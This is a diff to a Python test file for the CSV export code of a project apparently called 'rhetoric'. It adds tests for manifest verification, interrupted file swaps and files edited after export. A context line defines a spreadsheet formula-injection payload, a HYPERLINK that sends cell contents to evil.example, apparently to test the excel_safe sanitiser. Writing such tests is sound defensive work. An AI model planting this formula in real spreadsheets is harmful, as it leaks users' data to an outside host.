@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import errno
+import json
+import os
 import shutil
 from pathlib import Path
 
@@ -13,7 +15,7 @@ from rhetoric.analysis import analyze_all
 from rhetoric.corpus import Corpus, add_statement
 from rhetoric.errors import OutputError, UsageError
 from rhetoric.export import write as write_module
-from rhetoric.export.write import excel_safe, write_tables
+from rhetoric.export.write import MANIFEST, excel_safe, verify_export, write_tables
 from tests.conftest import SEED_CORPUS
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -91,13 +93,46 @@ def test_a_failed_export_leaves_the_previous_set_whole(analysis, tmp_path: Path,
     assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # no mix, no temp left
 
 
+def test_a_whole_export_verifies(analysis, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    write_tables(analysis, tables=["all"], out_dir=out)
+    assert verify_export(out) == (True, "5 file(s) of one export")
+    manifest = json.loads((out / MANIFEST).read_text(encoding="utf-8"))
+    assert sorted(manifest["files"]) == ["frames.csv", "mentions.csv", "shifts.csv", "stances.csv", "statements.csv"]
+
+
+def test_a_swap_cut_short_leaves_no_manifest(analysis, tmp_path: Path, monkeypatch) -> None:
+    out = tmp_path / "out"
+    write_tables(analysis, tables=["all"], out_dir=out)
+    real = os.replace
+    calls = {"n": 0}
+
+    def die_on_third(src, dst):
+        calls["n"] += 1
+        if calls["n"] == 3:  # two tables of the new set are in place, three of the old: a mix
+            raise KeyboardInterrupt  # stands for kill -9 (nothing after it runs)
+        return real(src, dst)
+
+    monkeypatch.setattr(write_module.os, "replace", die_on_third)
+    with pytest.raises(KeyboardInterrupt):
+        write_tables(analysis, tables=["all"], out_dir=out)
+    assert verify_export(out) == (False, "no manifest.json: the last export did not finish (run it again)")
+
+
+def test_a_file_changed_after_the_export_is_reported(analysis, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    write_tables(analysis, tables=["frames"], out_dir=out)
+    (out / "frames.csv").write_text("edited\r\n", encoding="utf-8")
+    assert verify_export(out) == (False, "frames.csv is not the file the manifest lists: run the export again")
+
+
 def test_stale_temps_of_a_killed_export_are_removed(analysis, tmp_path: Path) -> None:
     out = tmp_path / "out"
     (out / ".rhetoric-abc.tmp").mkdir(parents=True)
     (out / ".rhetoric-abc.tmp" / "frames.csv").write_text("half")
     (out / ".frames.csv.tmp").write_text("half")  # the fixed name earlier versions used
     write_tables(analysis, tables=["frames"], out_dir=out)
-    assert sorted(p.name for p in out.iterdir()) == ["frames.csv"]
+    assert sorted(p.name for p in out.iterdir()) == ["frames.csv", "manifest.json"]
 
 
 def test_export_onto_a_file(analysis, tmp_path: Path) -> None:
